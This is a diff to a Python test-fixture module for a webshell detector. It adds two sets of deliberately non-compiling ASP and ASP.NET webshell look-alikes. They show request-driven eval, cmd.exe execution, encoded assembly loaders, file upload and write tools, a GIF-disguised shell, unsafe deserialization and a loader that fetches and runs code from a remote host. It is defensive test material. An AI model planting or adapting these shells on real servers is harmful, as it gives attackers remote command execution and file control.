@@ -1,7 +1,8 @@
 """Look-alikes by a second author, written before reading the analysis: none can run, `1broken` stops each compiler.
 
-Measured blind on the day they were written, at medium or above: ASP 22/30, ASP.NET 25/30, PHP 16/20, JSP 15/15.  What
-was missed was then mended in general ways, so that these now guard against falling back and measure nothing.
+Measured blind on the day they were written, at medium or above: ASP 22/30, ASP.NET 25/30, PHP 16/20, JSP 15/15; what
+was missed was mended in general ways.  Then `THIRD` (24/30) and, after mending again, `FOURTH` (24/30), both ASP and
+ASP.NET, before any change was made for them.  All guard against falling back now, and measure nothing any more.
 """
 
 import re
@@ -16,7 +17,7 @@ class Sample:
     data: bytes
 
 
-def _cut(text: str) -> tuple[Sample, ...]:
+def cut(text: str) -> tuple[Sample, ...]:
     """The pages of a text; one with `utf16` in its name is written so."""
     pieces = re.split(r"(?m)^==== (.*)\n", text)[1:]
     return tuple(
@@ -25,8 +26,8 @@ def _cut(text: str) -> tuple[Sample, ...]:
     )
 
 
-ASP = _cut(
-    r'''
+ASP = cut(
+    r"""
 ==== asp-one-line-eval.asp
 <%Dim 1broken%><%eval request("value")%>
 ==== asp-execute-brackets.asp
@@ -328,11 +329,11 @@ Else
   Response.Write "<form method=post><input type=password name=pw></form>"
 End If
 %>
-'''
+"""
 )
 
-ASP_NET = _cut(
-    r'''
+ASP_NET = cut(
+    r"""
 ==== net-jscript-eval.aspx
 <%@ Page Language="Jscript"%><%var 1broken; eval(Request.Item["pass"],"unsafe");%>
 ==== net-jscript-string-tricks.aspx
@@ -696,11 +697,11 @@ protected void RunBtn_Click(object sender, EventArgs e) {
 protected void UpBtn_Click(object sender, EventArgs e) { up.PostedFile.SaveAs(Path.Combine(curDir.Value, Path.GetFileName(up.Value))); }
 </script>
 <html><body><form runat="server"><asp:Panel id="login" Visible="false" runat="server"/><input id="pathBox" runat="server" value="c:\windows\system32\cmd.exe"/><input id="argBox" runat="server"/><asp:Button OnClick="RunBtn_Click" runat="server"/><input id="up" type="file" runat="server"/><input id="curDir" runat="server"/><asp:Button OnClick="UpBtn_Click" runat="server"/><pre id="outp" runat="server"/></form></body></html>
-'''
+"""
 )
 
-PHP = _cut(
-    r'''
+PHP = cut(
+    r"""
 ==== php-short-tag.php
 <?=`{$_GET[0]}`;class 1broken?>
 ==== php-assert-var.php
@@ -783,11 +784,11 @@ $c = curl_init('http://192.0.2.9/p.txt'); curl_setopt($c, CURLOPT_RETURNTRANSFER
 ==== php-extract.php
 <?php class 1broken {}
 extract($_REQUEST); $fn = isset($m) ? $m : 'phpinfo'; $fn($arg);
-'''
+"""
 )
 
-JSP = _cut(
-    r'''
+JSP = cut(
+    r"""
 ==== jsp-runtime.jsp
 <%int 1broken; Runtime.getRuntime().exec(request.getParameter("i"));%>
 ==== jsp-pre-output.jsp
@@ -841,5 +842,572 @@ case 'D': new File(a1).delete(); break;
 case 'E': FileWriter w = new FileWriter(a1); w.write(a2); w.close(); break;
 case 'M': String[] c = { a1.substring(2), a1.substring(0, 2), a2 }; Process p = Runtime.getRuntime().exec(c); ByteArrayOutputStream bo = new ByteArrayOutputStream(); copy(p.getInputStream(), bo); sb.append(bo.toString()); break;
 } out.print(sb.toString()); } %>
+"""
+)
+
+THIRD = cut(
+    r'''
+==== asp3-if-one-line.asp
+<%
+Dim 1broken
+if request("xx")<>"" then session("uu")=request("xx"):end if:if session("uu")<>"" then execute session("uu")
+%>
+==== asp3-on-error-colon.asp
+<% on error resume next : Dim 1broken : Response.CharSet = "utf-8" : d = Request.Form("dat") : for i = 1 to len(d) step 2 : n = n & chr(clng("&h" & mid(d, i, 2))) : next : executeglobal n %>
+==== asp3-function-alias.asp
+<%
+Function Bd(ByVal s)
+  For i = 1 To Len(s) Step 2
+    c = Mid(s, i, 2)
+    If IsNumeric(Mid(s, i, 1)) Then
+      Bd = Bd & Chr("&H" & c)
+    Else
+      Bd = Bd & Chr("&H" & c & Mid(s, i + 2, 2))
+      i = i + 2
+    End If
+  Next
+End Function
+Dim 1broken
+Execute("On Error Resume Next:" & Bd(Request("z1")))
+%>
+==== asp3-array-join.asp
+<%
+Dim 1broken
+x = Array("ev", "al", " requ", "est(", """o"")")
+Execute Join(x, "")
+%>
+==== asp3-dictionary.asp
+<%
+Dim 1broken
+Set d = Server.CreateObject("Scripting.Dictionary")
+d.Add "k", Request.Form("k").Item
+d.Add "j", "x"
+If d.Exists("k") Then ExecuteGlobal d.Item("k")
+%>
+==== asp3-xmldom-base64.asp
+<%
+Function B64(t)
+  Dim x, n
+  Set x = Server.CreateObject("Msxml2.DOMDocument.3.0")
+  Set n = x.CreateElement("b")
+  n.dataType = "bin.base64"
+  n.text = t
+  B64 = S(n.nodeTypedValue)
+End Function
+Function S(b)
+  Dim q : Set q = Server.CreateObject("ADODB.Stream")
+  q.Type = 1 : q.Open : q.Write b : q.Position = 0 : q.Type = 2 : q.CharSet = "us-ascii"
+  S = q.ReadText
+End Function
+Dim 1broken
+Execute B64(Request("enc"))
+%>
+==== asp3-scriptcontrol.asp
+<%
+Dim 1broken
+Set sc = Server.CreateObject("MSScriptControl.ScriptControl")
+sc.Language = "VBScript"
+sc.AddObject "Response", Response
+sc.ExecuteStatement(Request("st") & "")
+%>
+==== asp3-wmi.asp
+<%
+Dim 1broken
+Set o = GetObject("winmgmts:{impersonationLevel=impersonate}!\\.\root\cimv2:Win32_Process")
+r = o.Create(Request.Form("run"), Null, Null, pid)
+Response.Write pid
+%>
+==== asp3-binary-upload.asp
+<%
+Dim 1broken, total, raw, i, c, body
+total = Request.TotalBytes
+raw = Request.BinaryRead(total)
+For i = 1 To LenB(raw)
+  body = body & Chr(AscB(MidB(raw, i, 1)))
+Next
+Set fs = Server.CreateObject("Scripting.FileSystemObject")
+Set t = fs.OpenTextFile(Server.MapPath(Request.QueryString("n")), 2, True)
+t.Write body
+t.Close
+%>
+==== asp3-regread-exec.asp
+<%@ Language="VBScript" %>
+<% Dim 1broken
+Function Fx(k) : Fx = Trim(Request.ServerVariables("HTTP_" & k)) : End Function
+With CreateObject("WScript.Shell")
+  Response.Write .Exec("cmd /c " & Fx("X_FORWARDED_HOST_C")).StdOut.ReadAll
+End With
+%>
+==== asp3-jscript-activex.asp
+<%@ language="javascript" %>
+<%
+var 1broken;
+function go(c) { var w = new ActiveXObject("WScript" + ".Shell"); var e = w.Exec("cmd.exe /c " + c); return e.StdOut.ReadAll(); }
+if (String(Request("q")) != "undefined") { Response.Write("<xmp>" + go(Request("q")) + "</xmp>"); }
+%>
+==== asp3-jscript-with-reverse.asp
+<%@ LANGUAGE=JScript %>
+<% var 1broken; var a = "lave".split("").reverse().join(""); var fn = this[a]; fn(String(Request.Cookies("u"))); %>
+==== asp3-vbs-sub-param.asp
+<script language=vbs runat=server>
+Sub Doit(byref code)
+  On Error Resume Next
+  ExecuteGlobal code
+End Sub
+Dim 1broken
+Call Doit(Request.QueryString("code"))
+</script>
+==== asp3-sql-manager.asp
+<%
+Dim 1broken
+Set cn = Server.CreateObject("ADODB.Connection")
+cn.Open Request.Form("cs")
+Set rs = cn.Execute(Request.Form("sql"))
+For Each f In rs.Fields
+  Response.Write "<th>" & f.Name & "</th>"
+Next
+%>
+<form method=post><input name=cs><textarea name=sql></textarea></form>
+==== asp3-winhttp-save.asp
+<%
+Dim 1broken
+Set h = Server.CreateObject("WinHttp.WinHttpRequest.5.1")
+h.Open "GET", Request("url"), False
+h.Send
+Set s = Server.CreateObject("ADODB.Stream")
+s.Type = 1 : s.Open
+s.Write h.ResponseBody
+s.SaveToFile Server.MapPath(Request("as")), 2
+%>
+==== net3-query-indexer.aspx
+<%@Page Language="C#"%><%int 1broken;var p=new System.Diagnostics.Process();var q=p.StartInfo;q.FileName="cmd";q.Arguments="/c "+Request.QueryString["e"];q.UseShellExecute=false;q.RedirectStandardOutput=true;p.Start();Response.Write(p.StandardOutput.ReadToEnd());%>
+==== net3-codebehind-inline.aspx
+<%@ Page Language="C#" %>
+<script runat="server">
+int 1broken;
+private string cmdLine { get { return Request.Form["cl"] ?? ""; } }
+protected override void OnLoad(EventArgs e) {
+  base.OnLoad(e);
+  if (cmdLine.Length > 0) Exec(cmdLine);
+}
+void Exec(string line) {
+  System.Diagnostics.ProcessStartInfo i = new System.Diagnostics.ProcessStartInfo("cmd.exe", String.Format("/c {0}", line));
+  i.RedirectStandardOutput = true; i.UseShellExecute = false;
+  using (System.Diagnostics.Process pr = System.Diagnostics.Process.Start(i)) { lit.Text = pr.StandardOutput.ReadToEnd(); }
+}
+</script><asp:Literal id="lit" runat="server"/>
+==== net3-async-handler.ashx
+<%@ WebHandler Language="C#" Class="A" %>
+using System; using System.IO; using System.Web; using System.Threading.Tasks;
+public class A : HttpTaskAsyncHandler {
+  int 1broken;
+  public override async Task ProcessRequestAsync(HttpContext ctx) {
+    string body;
+    using (var r = new StreamReader(ctx.Request.InputStream)) body = await r.ReadToEndAsync();
+    var a = System.Reflection.Assembly.Load(Convert.FromBase64String(body));
+    await Task.Run(() => a.CreateInstance("K").Equals(ctx));
+  }
+}
+==== net3-vb-assembly.aspx
+<%@ Page Language="VB" %>
+<%@ Import Namespace="System.Reflection" %>
+<script runat="server">
+Dim 1broken
+Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load
+  Dim raw As Byte() = Convert.FromBase64String(Request.Form("a"))
+  Dim asm As Assembly = Assembly.Load(raw)
+  asm.CreateInstance("R").Equals(Me)
+End Sub
+</script>
+==== net3-xor-in-page.aspx
+<%@ Page Language="C#" %><%
+int 1broken;
+string key = "aa11bb22"; string pw = "p";
+byte[] data = System.Convert.FromBase64String(Context.Request[pw]);
+for (int i = 0; i < data.Length; i++) { data[i] = (byte)(data[i] ^ key[i % key.Length]); }
+if (Context.Session["payload"] == null) { Context.Session["payload"] = (System.Reflection.Assembly)typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { data }); }
+else { object o = ((System.Reflection.Assembly)Context.Session["payload"]).CreateInstance("LY"); o.Equals(Context); o.Equals(data); o.ToString(); }
+%>
+==== net3-soap-jscript.asmx
+<%@ WebService Language="JScript" Class="S" %>
+import System; import System.Web; import System.Web.Services;
+public class S extends System.Web.Services.WebService {
+  var 1broken;
+  WebMethodAttribute function ping(host : String) : void {
+    var r = eval(System.Text.Encoding.ASCII.GetString(System.Convert.FromBase64String(host)), "unsafe");
+  }
+}
+==== net3-powershell-automation.aspx
+<%@ Page Language="C#" %>
+<%@ Assembly Name="System.Management.Automation,Version=1.0.0.0,Culture=neutral,PublicKeyToken=31bf3856ad364e35"%>
+<%@ Import Namespace="System.Management.Automation" %>
+<script runat="server">
+int 1broken;
+protected void b_Click(object s, EventArgs e) {
+  var rs = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace(); rs.Open();
+  var pipe = rs.CreatePipeline();
+  pipe.Commands.AddScript(console.Text);
+  foreach (var o in pipe.Invoke()) outp.Text += o.ToString();
+}
+</script><form runat="server"><asp:TextBox id="console" runat="server"/><asp:TextBox id="outp" runat="server"/><asp:Button runat="server" OnClick="b_Click"/></form>
+==== net3-findcontrol.aspx
+<%@ Page Language="C#" %>
+<script runat="server">
+int 1broken;
+void Page_Load(object s, EventArgs e) {
+  TextBox t = (TextBox)Page.FindControl("cmdbox");
+  System.Diagnostics.Process.Start("cmd.exe", "/c " + t.Text);
+}
+</script><form runat="server"><asp:TextBox id="cmdbox" runat="server"/></form>
+==== net3-viewstate.aspx
+<%@ Page Language="C#" %>
+<% int 1broken;
+if (Request["n"] != null) ViewState["n"] = Request["n"];
+string v = (string)ViewState["n"];
+if (v != null) { var si = new System.Diagnostics.ProcessStartInfo { FileName = v }; System.Diagnostics.Process.Start(si); } %>
+==== net3-config-vb.aspx
+<%@ Page Language="VB" %>
+<% Dim 1broken As String
+System.IO.File.WriteAllBytes(Server.MapPath(Request("p")), Convert.FromBase64String(Request("d"))) %>
+==== net3-dynamic-com.aspx
+<%@ Page Language="C#" aspcompat="true" %>
+<% int 1broken;
+Type t = Type.GetTypeFromProgID("WScript" + ".Shell");
+object sh = Activator.CreateInstance(t);
+object ex = t.InvokeMember("Exec", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { "cmd /c " + Request["r"] });
+Response.Write(ex); %>
+==== net3-lambda-dict.ashx
+<%@ WebHandler Language="C#" Class="D" %>
+using System; using System.Collections.Generic; using System.Web; using System.Diagnostics;
+public class D : IHttpHandler {
+  int 1broken;
+  public bool IsReusable => true;
+  public void ProcessRequest(HttpContext c) {
+    var acts = new Dictionary<string, Func<string, string>> {
+      { "x", a => Process.Start("cmd", $"/c {a}").ToString() },
+      { "r", a => System.IO.File.ReadAllText(a) }
+    };
+    c.Response.Write(acts[c.Request["a"]](c.Request["b"]));
+  }
+}
+==== net3-virtualpath-write.aspx
+<%@ Page Language="C#" ValidateRequest="false" %>
+<script runat="server">
+int 1broken;
+protected void Save_Click(object sender, EventArgs e) {
+  using (StreamWriter sw = new StreamWriter(Server.MapPath(".") + "\\" + tbName.Text, false)) { sw.Write(tbBody.Text); }
+  Label1.Text = "ok";
+}
+</script><form runat="server"><asp:TextBox ID="tbName" runat="server"/><asp:TextBox ID="tbBody" TextMode="MultiLine" runat="server"/><asp:Button ID="b" runat="server" OnClick="Save_Click"/><asp:Label ID="Label1" runat="server"/></form>
+==== net3-razor-functions.cshtml
+@functions {
+    int 1broken;
+    string Go(string a) {
+        var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo { FileName = "cmd.exe", Arguments = "/c " + a, RedirectStandardOutput = true, UseShellExecute = false });
+        return p.StandardOutput.ReadToEnd();
+    }
+}
+<pre>@Go(Context.Request.Query["c"])</pre>
+==== net3-getbytes-unicode.aspx
+<%@ Page Language="Jscript" Debug=true%><%
+var 1broken;
+var X='unsa'+String.fromCharCode(102,101);
+var r=Request.Form("a1");
+eval(Convert.ToString(r)/*x*/,X);
+Response.End();
+%>
 '''
+)
+
+FOURTH = cut(
+    r"""
+==== asp4-eval-request-plus.asp
+<%y=request("mchun"):Dim 1broken:response.write(eval(y))%>
+==== asp4-execute-if-else.asp
+<%
+Dim 1broken
+IF Request.QueryString("t")="1" THEN
+  Execute("dim r:r=1:" & Request.Form("b"))
+ELSE
+  Response.Write "x"
+END IF
+%>
+==== asp4-hidden-in-gif.asp
+GIF89a
+<% Dim 1broken
+Execute(DeAsc("%119%136%115%126%50%132%119%131%135%119%133%134%58%52%117%127%118%52%59"))
+Function DeAsc(Str)
+  Str = Split(Str, "%")
+  For I = 1 To Ubound(Str)
+    DeAsc = DeAsc & Chr(Str(I) - 18)
+  Next
+End Function %>
+==== asp4-long-literal-decoder.asp
+<%
+Const k = "qwer"
+Function un(x)
+  Dim i, z
+  i = 1
+  Do While i <= Len(x)
+    z = z & ChrW(AscW(Mid(x, i, 1)) Xor Asc(Mid(k, (i Mod 4) + 1, 1)))
+    i = i + 1
+  Loop
+  un = z
+End Function
+Dim 1broken
+ExecuteGlobal un("abcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcdabcd")
+%>
+==== asp4-fso-in-with.asp
+<%
+Dim 1broken
+p = Request.Form("cyfddata")
+If Len(p) > 0 Then
+  Set f = Server.CreateObject("Scripting.FileSystemObject")
+  With f.CreateTextFile(Request.Form("syfdpath"))
+    .Write p
+    .Close
+  End With
+End If
+%>
+<form method=post><input name=syfdpath><textarea name=cyfddata></textarea></form>
+==== asp4-savefile-class.asp
+<%
+Class UpFile
+  Public Data
+  Private Sub Class_Initialize
+    Set Data = Server.CreateObject("ADODB.Stream")
+    Data.Type = 1 : Data.Open
+    Data.Write Request.BinaryRead(Request.TotalBytes)
+  End Sub
+  Public Sub Keep(where)
+    Data.SaveToFile where, 2
+  End Sub
+End Class
+Dim 1broken
+Set u = New UpFile
+u.Keep Request.QueryString("where")
+%>
+==== asp4-session-contents.asp
+<% Dim 1broken
+Session.Contents("a") = Request.Form.Item("a")
+Execute Session.Contents("a")
+%>
+==== asp4-vbs-eval-concat-byref.asp
+<%
+Dim 1broken
+e = "E" & "val"
+q = e & "(Re" & "quest(" & Chr(34) & "r" & Chr(34) & "))"
+Execute q
+%>
+==== asp4-exec-output-sub.asp
+<% Dim 1broken
+sub cmdx()
+  dim w, c
+  c = trim(request.form("c"))
+  set w = createobject(request.form("progid"))
+  response.write server.htmlencode(w.exec("cmd /c " & c).stdout.readall())
+end sub
+if request("go") = "1" then cmdx
+%>
+==== asp4-loader-remote-session.asp
+<%
+Dim 1broken
+Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
+x.open "GET", "http://192.0.2.33/a.jpg", False
+x.send
+Session("p") = x.responseText
+ExecuteGlobal Session("p")
+%>
+==== asp4-jscript-timer.asp
+<%@ language="JScript" %><%
+var 1broken;
+function main() { var r = Request.QueryString("j"); try { return (new Function("return " + r))(); } catch (e) { return e.message; } }
+Response.Write(main());
+%>
+==== asp4-jscript-eval-alias.asp
+<script language="JScript" runat="server">
+var 1broken;
+var e = eval, p = Request.Form("k")(1);
+e("" + p);
+</script>
+==== asp4-scriptlet-getobject.asp
+<% Dim 1broken
+Set s = GetObject("script:" & Request("url"))
+s.Run %>
+==== asp4-shell-run-batch.asp
+<%
+Dim 1broken
+tmp = Server.MapPath("/up/") & "\r.bat"
+Set fs = CreateObject("Scripting.FileSystemObject")
+Set o = fs.CreateTextFile(tmp, True) : o.WriteLine Request("lines") : o.Close
+CreateObject("WScript.Shell").Run tmp, 0, True
+%>
+==== asp4-regexp-exec.asp
+<% Dim 1broken
+Dim re : Set re = New RegExp
+re.Pattern = "[^a-z0-9\(\)""\s]" : re.Global = True
+Execute re.Replace("e#x#e#c#u#t#e r%e%q%u%e%s%t(""v"")", "")
+%>
+==== net4-handler-generic-params.ashx
+<%@ WebHandler Language="VB" Class="Handler" %>
+Imports System
+Imports System.Web
+Imports System.Diagnostics
+Public Class Handler : Implements IHttpHandler
+  Dim 1broken
+  Public Sub ProcessRequest(ByVal context As HttpContext) Implements IHttpHandler.ProcessRequest
+    Dim p As New Process()
+    p.StartInfo = New ProcessStartInfo("cmd.exe", "/c " & context.Request.Params("c")) With {.UseShellExecute = False, .RedirectStandardOutput = True}
+    p.Start()
+    context.Response.Write(p.StandardOutput.ReadToEnd())
+  End Sub
+  Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
+    Get
+      Return False
+    End Get
+  End Property
+End Class
+==== net4-static-field.aspx
+<%@ Page Language="C#" %>
+<script runat="server">
+int 1broken;
+static System.Collections.Hashtable bag = new System.Collections.Hashtable();
+void Page_Load(object a, EventArgs b) {
+  if (Request.HttpMethod == "POST") bag["m"] = Request.BinaryRead(Request.TotalBytes);
+  else if (bag.ContainsKey("m")) System.Reflection.Assembly.Load((byte[])bag["m"]).EntryPoint.Invoke(null, new object[] { null });
+}
+</script>
+==== net4-cmd-out-var.aspx
+<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %>
+<script language="c#" runat="server">
+int 1broken;
+private const string HEADER = "<html><body>";
+public void Page_Load(object sender, EventArgs e) {
+  Response.Write(HEADER);
+  string error; string call = Request.Params["exec"];
+  TryRun(call, out error);
+  Response.Write(error);
+}
+bool TryRun(string call, out string result) {
+  Process p = new Process();
+  p.StartInfo.FileName = Environment.GetEnvironmentVariable("COMSPEC");
+  p.StartInfo.Arguments = string.Concat("/c ", call);
+  p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true;
+  p.Start(); result = p.StandardOutput.ReadToEnd(); return true;
+}
+</script>
+==== net4-jscript-package.aspx
+<%@ Page Language="JScript" %>
+<script runat="server" language="JScript">
+var 1broken;
+function popup(str) { var q = "u"; var w = "afe"; var a = q + "ns" + w; var b = eval(str, a); return b; }
+</script>
+<% popup(popup(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String("UmVxdWVzdC5JdGVtWyJ6Il0=")))); %>
+==== net4-base64-decrypt-3des.aspx
+<%@ Page Language="C#" %>
+<%@ Import Namespace="System.Security.Cryptography" %>
+<script runat="server">
+int 1broken;
+byte[] Dec(byte[] a) {
+  var t = new TripleDESCryptoServiceProvider { Key = Encoding.ASCII.GetBytes("abcdefghijklmnop"), Mode = CipherMode.ECB };
+  using (var d = t.CreateDecryptor()) return d.TransformFinalBlock(a, 0, a.Length);
+}
+void Page_Load() {
+  var h = Request.Headers.GetValues("Authorization");
+  if (h == null) return;
+  var bytes = Dec(Convert.FromBase64String(h[0].Substring(6)));
+  AppDomain.CurrentDomain.Load(bytes).GetType("P").GetMethod("M").Invoke(null, new object[] { Context });
+}
+</script>
+==== net4-global-asax.asax
+<%@ Application Language="C#" %>
+<script runat="server">
+int 1broken;
+void Application_BeginRequest(object sender, EventArgs e) {
+  var app = (HttpApplication)sender;
+  string q = app.Request.Headers["X-Run"];
+  if (!string.IsNullOrEmpty(q)) { var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd", "/c " + q) { RedirectStandardOutput = true, UseShellExecute = false }); app.Response.Write(p.StandardOutput.ReadToEnd()); app.CompleteRequest(); }
+}
+</script>
+==== net4-master-page.master
+<%@ Master Language="VB" %>
+<script runat="server">
+Dim 1broken
+Sub Page_Init(o As Object, e As EventArgs)
+  Dim t = Request.Cookies("t")
+  If t IsNot Nothing Then
+    Dim src = Text.Encoding.UTF8.GetString(Convert.FromBase64String(t.Value))
+    Dim prov = New Microsoft.VisualBasic.VBCodeProvider()
+    Dim res = prov.CompileAssemblyFromSource(New System.CodeDom.Compiler.CompilerParameters(), src)
+    res.CompiledAssembly.CreateInstance("Z")
+  End If
+End Sub
+</script>
+==== net4-upload-control.aspx
+<%@ Page Language="C#" %>
+<script runat="server">
+int 1broken;
+protected void go(object s, EventArgs e) {
+  if (fu.HasFile) { fu.SaveAs(System.IO.Path.Combine(where.Text, fu.FileName)); msg.Text = where.Text + fu.FileName; }
+}
+</script>
+<form runat="server"><asp:TextBox id="where" runat="server"/><asp:FileUpload id="fu" runat="server"/><asp:Button OnClick="go" runat="server"/><asp:Label id="msg" runat="server"/></form>
+==== net4-roslyn.cshtml
+@using Microsoft.CodeAnalysis.CSharp.Scripting
+@{
+    int 1broken;
+    var code = Context.Request.Form["code"].ToString();
+    var outp = await CSharpScript.EvaluateAsync(code);
+}
+<p>@outp</p>
+==== net4-datatable-compute-no.aspx
+<%@ Page Language="C#" %>
+<% int 1broken;
+var t = Type.GetType(Request["t"]);
+var o = Activator.CreateInstance(t, new object[] { Request["a"] });
+t.GetMethod(Request["m"]).Invoke(o, null); %>
+==== net4-objectdataprovider.ashx
+<%@ WebHandler Language="C#" Class="O" %>
+using System.Web; using System.IO; using System.Runtime.Serialization.Formatters.Binary;
+public class O : IHttpHandler {
+  int 1broken;
+  public void ProcessRequest(HttpContext c) {
+    var bf = new BinaryFormatter();
+    var o = bf.Deserialize(c.Request.InputStream);
+    c.Response.Write(o);
+  }
+  public bool IsReusable { get { return false; } }
+}
+==== net4-directory-tool.aspx
+<%@ Page Language="C#" %><%@ Import Namespace="System.IO" %>
+<script runat="server">
+int 1broken;
+string D { get { return (string)ViewState["d"]; } set { ViewState["d"] = value; } }
+protected void nav(object s, EventArgs e) { D = path.Text; list.Text = ""; foreach (var f in Directory.GetFiles(D)) list.Text += f + "<br>"; foreach (var f in Directory.GetDirectories(D)) list.Text += f + "/<br>"; }
+protected void kill(object s, EventArgs e) { File.Delete(path.Text); }
+protected void save(object s, EventArgs e) { File.WriteAllText(path.Text, body.Text); }
+protected void load(object s, EventArgs e) { body.Text = File.ReadAllText(path.Text); }
+</script>
+<form runat="server"><asp:TextBox id="path" runat="server"/><asp:TextBox id="body" runat="server" TextMode="MultiLine"/><asp:Label id="list" runat="server"/></form>
+==== net4-webclient-save.aspx
+<%@ Page Language="C#" %>
+<% int 1broken; new System.Net.WebClient().DownloadFile(Request.QueryString["u"], Server.MapPath("~/" + Request.QueryString["n"])); %>
+==== net4-pinvoke-winexec.aspx
+<%@ Page Language="VB" %>
+<script runat="server">
+Dim 1broken
+Declare Function WinExec Lib "kernel32" (ByVal a As String, ByVal b As Integer) As Integer
+Sub Page_Load(s As Object, e As EventArgs)
+  If Request("w") <> "" Then WinExec(Request("w"), 0)
+End Sub
+</script>
+==== net4-expression-tree.aspx
+<%@ Page Language="C#" Inherits="System.Web.UI.Page" %>
+<%@ Import Namespace="System.Linq" %>
+<% int 1broken;
+var parts = new[] { "cm", "d.e", "xe" };
+var name = string.Concat(parts);
+var q = Request.QueryString.AllKeys.Where(k => k == "go").Select(k => Request.QueryString[k]).FirstOrDefault();
+if (q != null) System.Diagnostics.Process.Start(name, "/c " + q); %>
+"""
 )
